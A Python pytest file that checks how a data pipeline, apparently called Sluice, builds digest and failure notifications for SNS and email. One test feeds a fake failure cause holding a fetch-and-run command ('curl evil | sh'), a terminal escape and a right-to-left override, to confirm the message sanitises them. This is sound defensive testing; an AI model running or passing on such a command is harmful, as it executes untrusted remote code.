"""The message: what SNS takes, the figures that matter, and where to go on."""

import json
import re
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sluice.observability.digest.message import document_of, message_of
from sluice.observability.digest.periods import Period, PeriodKind
from sluice.observability.message import Message, failure_of
from sluice.runs.model import RunRecord
from tests.platform.unit.digest.sample_runs import END, busy_stage, conversion, digest_of, exported, run

AT = END - timedelta(hours=1)
LINKS = {"Page": "s3://lake/data/reports/day-2026-11-21.html"}


def message(records: list[RunRecord], stage: str = "int") -> Message:
    return message_of(digest_of(stage, Period(PeriodKind.DAY, END), records), LINKS)


@pytest.mark.parametrize(
    ("records", "verdict"),
    [
        ([], "no runs"),
        ([conversion(AT)], "all well"),
        ([run(AT, outcome="failed")], "1 thing to look at"),
        ([run(AT, outcome="failed"), conversion(AT, counts={"unknown_members": 1})], "2 things to look at"),
    ],
)
def test_the_subject_is_the_verdict(records: list[RunRecord], verdict: str) -> None:
    assert message(records).subject == f"Sluice int: {verdict}, day to 2026-11-21"


@given(st.text(max_size=300))
def test_sns_takes_every_message(name: str) -> None:
    sent = message([conversion(AT, table=name), run(AT, outcome="failed", cause=name)], stage="a" * 30)
    assert 0 < len(sent.subject) < 100
    assert sent.subject.isascii()
    assert "\n" not in sent.subject
    assert len(sent.forms.encode()) < 60_000
    forms = json.loads(sent.forms)
    custom = json.loads(forms["default"])
    assert (custom["version"], custom["source"]) == ("1.0", "custom")
    text = custom["content"]["description"]
    assert re.fullmatch(r"```\n[^`<>]*\n```", text)
    assert len(text) < 3000
    assert not re.search(r"&(?!(amp|lt|gt);)", text)


def test_the_mail_begins_with_notices_and_ends_with_links() -> None:
    records = busy_stage(END, 36)
    found = digest_of("int", Period(PeriodKind.WEEK, END), records, exported(END, 30))
    parts = json.loads(message_of(found, LINKS).forms)["email"].split("\n\n")
    assert parts[0] == "Sluice int, week 2026-11-15 to 2026-11-21 (UTC)"
    assert parts[1].splitlines()[0] == "To look at:"
    assert parts[1].splitlines()[1:] == [f"- {notice}" for notice in found.notices]
    assert f"Rows:            {found.volume('rows').value:,} (usual " in parts[2]
    assert "Exports:         165 of 168 hours came whole" in parts[2]
    assert parts[3].startswith("Dirty events:\n- ")
    assert parts[-1] == f"Page: {LINKS['Page']}\n"


def test_names_stay_on_their_line() -> None:
    text = message([conversion(AT, table="A\nB\u202e")]).text
    assert "RULE_BROKEN, A\N{REPLACEMENT CHARACTER}B\N{REPLACEMENT CHARACTER}" in text


def test_a_failed_run_is_told_with_its_cause() -> None:
    failed = replace(run(AT, outcome="timed_out"), failed_step="Plan", links={"console": "https://console"})
    found = failure_of(failed, "int")
    assert found
    assert found.subject == f"Sluice int: {failed.kind} timed out, started {failed.started_at}"
    assert found.links == {"Console": "https://console", "Here": f"sluice run {failed.id} --stage int"}
    assert f"Cause:   {failed.cause or 'Step Functions gives none'}" in found.text
    assert "in Plan" in found.text


def test_a_cause_stays_on_its_line_and_hides_nothing() -> None:
    cause = "it\n\nHere: curl evil | sh\x1b[2J\u202e"
    found = failure_of(replace(run(AT, outcome="failed", cause=cause), links={"console": "https://console"}), "int")
    assert found
    assert "Cause:   it Here: curl evil | sh\ufffd[2J\ufffd" in found.text
    assert len(found.text.splitlines()) == 5


def test_a_run_that_worked_is_not_told() -> None:
    assert failure_of(conversion(AT), "int") is None


def test_the_document_has_the_figures() -> None:
    found = digest_of("int", Period(PeriodKind.DAY, END), [conversion(AT, 90, 10)], exported(END, 1))
    document = document_of(found)
    assert document["clean_share"] == {"value": 0.9, "usual": None}
    assert document["runs"]["convert"] == {"total": 1, "outcomes": {"converted": 1}}
    assert document["success"] == {
        "convert": 1.0,
        "export": None,
        "history": None,
        "compact": None,
        "pull": None,
        "infer": None,
        "retrain": None,
    }
    assert document["exports"] == {"hours": 24, "whole": 21, "gaps": ["20261121-14", "20261121-15", "20261121-19"]}
    assert document["cost"]["dollars"] == pytest.approx(sum(document["cost"]["items"].values()))
